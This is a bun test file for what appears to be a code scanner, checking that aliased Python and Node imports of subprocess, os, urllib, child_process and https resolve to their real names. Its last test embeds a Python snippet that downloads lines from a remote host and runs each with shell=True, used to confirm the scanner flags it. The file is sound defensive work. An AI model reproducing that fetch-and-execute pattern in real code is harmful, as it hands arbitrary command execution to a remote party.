import { expect, test } from 'bun:test'
import { createDocument } from '../../../scanner/document.ts'
import { scan } from '../../../scanner/index.ts'

/** The reading of the last line. */
function read(text: string): string {
  const document = createDocument(text)
  return document.lineText(document.lines.count - 1)
}

test.each([
  ['import subprocess as s\ns.run("x")', 'subprocess.run("x")'],
  ['import json, os as o\no.system("x")', 'os.system("x")'],
  ['import urllib.request as u\nd = u.urlopen(a)', 'd = urllib.request.urlopen(a)'],
  ['from os import system as run\nrun("x")', 'os.system("x")'],
  ['from subprocess import run, Popen\nrun("x")', 'subprocess.run("x")'],
  [
    'from urllib import request as _r\n_r.urlopen(_r.Request(u))',
    'urllib.request.urlopen(urllib.request.request(u))',
  ],
  ['const h = require("https"), o = require("os")\nh.get(o.homedir())', 'https.get(os.homedir())'],
  [
    "let { execSync: run } = require('node:child_process')\nrun('x')",
    "child_process.execsync('x')",
  ],
  ['import * as p from "node:fs/promises"\np.readFile(x)', 'fs.promises.readfile(x)'],
  ["import { request, get as g } from 'https'\nrequest(u); g(u)", 'https.request(u); https.get(u)'],
])('%j', (text, reading) => {
  expect(read(text)).toBe(reading)
})

test.each([
  ['of modules that do nothing', 'import numpy as np\nnp.sum(a)', 'np.sum(a)'],
  ['that are part of others', 'import os as o\nfoo.o.x(); no.x()', 'foo.o.x(); no.x()'],
  ['of other modules', 'const h = require("./https")\nh.get(a)', 'h.get(a)'],
  ['in words', 'import os as o\nthe o and s of it', 'the o and s of it'],
])('names %s stay', (_, text, reading) => {
  expect(read(text)).toBe(reading)
})

test('a text does not grow without bound', () => {
  const text = `import subprocess as s\n${'s.x '.repeat(40_000)}`
  expect(createDocument(text).reading.text.length).toBeLessThan(text.length + 25_000)
  const lines = `import subprocess as s\n${'s.x\n'.repeat(40_000)}`
  expect(createDocument(lines).reading.text.length).toBeLessThan(lines.length + 25_000)
})

test('a module behind another name is judged like itself', () => {
  const program = (names: string, open: string, run: string) =>
    `\`\`\`python\n${names}\nt = ${open}("https://in.pier-tools.net/now.txt").read().decode()\nfor line in t.split("\\n"):\n    ${run}(line, shell=True)\n\`\`\`\n`
  const plain = program(
    'import urllib.request, subprocess',
    'urllib.request.urlopen',
    'subprocess.run',
  )
  const renamed = program('import urllib.request as u, subprocess as s', 'u.urlopen', 's.run')
  expect(scan(plain).grade).toMatch(/[DF]/)
  expect(scan(renamed).grade).toBe(scan(plain).grade)
})
